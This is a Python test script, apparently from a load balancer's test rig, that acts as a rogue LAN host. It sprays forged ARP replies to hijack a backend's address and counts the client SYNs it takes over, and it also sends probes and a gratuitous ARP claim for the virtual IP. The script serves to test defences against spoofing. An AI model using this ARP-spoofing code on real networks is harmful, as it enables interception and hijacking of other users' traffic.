#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""A hostile host on the rig's LAN (run inside its namespace, on eth0).

    arp_rogue.py spray SECONDS MY_MAC BACKEND_IP LB_MAC LB_IP VIP
        Sends ARP replies "BACKEND_IP is at MY_MAC" to the balancer (to its
        MAC and port address, as an answer to its refresh looks), 10 every
        0.5 ms for SECONDS (so that some come between a refresh request and
        the backend's answer, tens of microseconds later), and 10 more as
        soon as it sees the balancer ask for BACKEND_IP, and counts the TCP SYNs to VIP that reach
        MY_MAC meanwhile (client traffic taken over). Prints
        "sent N syns-to-us M".
    arp_rogue.py probe COUNT MY_MAC VIP LB_MAC
        Sends COUNT RFC 5227 probes for VIP (sender 0.0.0.0), 0.5 s apart,
        and counts the replies from LB_MAC that say VIP is at LB_MAC.
        Prints "probes N answered M".
    arp_rogue.py claim MY_MAC VIP
        Sends one gratuitous ARP reply "VIP is at MY_MAC" (a host using
        the VIP): the balancer logs it and defends the address.
"""
import select
import socket
import sys
import time

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import ARP, Ether

IFACE = "eth0"
BCAST = "ff:ff:ff:ff:ff:ff"


def raw_socket():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((IFACE, 0))
    s.setblocking(False)
    return s


def drain(s, handle):
    while True:
        try:
            frame = s.recv(65535)
        except BlockingIOError:
            return
        handle(frame)


def spray(seconds, my_mac, backend_ip, lb_mac, lb_ip, vip):
    frame = bytes(Ether(dst=lb_mac, src=my_mac) /
                  ARP(op=2, hwsrc=my_mac, psrc=backend_ip, hwdst=lb_mac, pdst=lb_ip))
    s = raw_socket()
    sent = syns = 0

    def burst():
        nonlocal sent
        for _ in range(10):
            s.send(frame)
        sent += 10

    def handle(raw):
        nonlocal syns
        p = Ether(raw)
        if (p.dst == my_mac and IP in p and TCP in p and p[IP].dst == vip and
                p[TCP].flags & 0x02):
            syns += 1
        # The balancer asks who has the backend: answer at once, as well.
        if (ARP in p and p[ARP].op == 1 and p.src == lb_mac and
                p[ARP].pdst == backend_ip):
            burst()

    end = time.monotonic() + seconds
    next_burst = 0
    while time.monotonic() < end:
        if time.monotonic() >= next_burst:
            burst()
            next_burst = time.monotonic() + 0.0005
        select.select([s], [], [], 0.0005)
        drain(s, handle)
    drain(s, handle)
    print("sent %d syns-to-us %d" % (sent, syns))


def probe(count, my_mac, vip, lb_mac):
    frame = bytes(Ether(dst=BCAST, src=my_mac) /
                  ARP(op=1, hwsrc=my_mac, psrc="0.0.0.0", hwdst="00:00:00:00:00:00", pdst=vip))
    s = raw_socket()
    answered = 0

    def handle(raw):
        nonlocal answered
        p = Ether(raw)
        if (ARP in p and p[ARP].op == 2 and p.src == lb_mac and p.dst == my_mac and
                p[ARP].psrc == vip and p[ARP].hwsrc == lb_mac and p[ARP].hwdst == my_mac):
            answered += 1

    for _ in range(count):
        s.send(frame)
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            drain(s, handle)
            time.sleep(0.01)
    print("probes %d answered %d" % (count, answered))


def claim(my_mac, vip):
    s = raw_socket()
    s.send(bytes(Ether(dst=BCAST, src=my_mac) /
                 ARP(op=2, hwsrc=my_mac, psrc=vip, hwdst=BCAST, pdst=vip)))


def main():
    what, args = sys.argv[1], sys.argv[2:]
    if what == "spray":
        spray(float(args[0]), *args[1:])
    elif what == "probe":
        probe(int(args[0]), *args[1:])
    elif what == "claim":
        claim(*args)
    else:
        sys.exit(__doc__)


main()
